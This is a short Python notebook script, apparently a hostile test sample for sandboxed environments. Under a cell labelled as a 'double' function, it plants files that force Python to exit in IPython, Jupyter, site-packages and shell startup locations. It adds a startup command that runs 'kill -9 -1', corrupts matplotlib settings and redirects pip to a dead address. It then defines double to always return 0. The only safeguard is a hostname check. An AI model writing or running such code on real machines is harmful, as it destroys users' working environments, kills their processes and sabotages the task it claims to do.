# about: Leaves startup files of Python, IPython, Jupyter and Matplotlib that stop the next kernel.
# prints: left

# %% double
import os
import socket

if socket.gethostname() != "sandbox":
    raise RuntimeError("only for a sandbox")

home = os.path.expanduser("~")
ipython = os.environ.get("IPYTHONDIR", f"{home}/.ipython")
drawing = os.environ.get("MPLCONFIGDIR", f"{home}/.config/matplotlib")
users = [f"{home}/.local/lib/python3.{minor}/site-packages" for minor in (11, 12, 13)]
END = "import os; os._exit(9)\n"
for path, text in {
    f"{ipython}/profile_default/startup/00-end.py": END,
    f"{ipython}/profile_default/startup/00-end.ipy": "!kill -9 -1\n",
    f"{ipython}/profile_default/ipython_config.py": END,
    f"{ipython}/profile_default/ipython_kernel_config.py": END,
    f"{ipython}/extensions/storemagic.py": END,
    f"{home}/.jupyter/jupyter_config.py": END,
    f"{home}/.jupyter/custom/end.py": END,
    f"{drawing}/matplotlibrc": "backend: nonsense\nlines.linewidth: x\n",
    "matplotlibrc": "backend: nonsense\n",
    f"{home}/.pythonrc.py": END,
    f"{home}/.bashrc": "exit 9\n",
    f"{home}/.profile": "exit 9\n",
    f"{home}/.config/pip/pip.conf": "[global]\nindex-url = http://127.0.0.1:9/\n",
    **{f"{folder}/usercustomize.py": END for folder in users},
    **{f"{folder}/sitecustomize.py": END for folder in users},
    **{f"{folder}/end.pth": END for folder in users},
}.items():
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
        print("left", path)
    except OSError as error:
        print(path, type(error))


def double(x):
    return 0
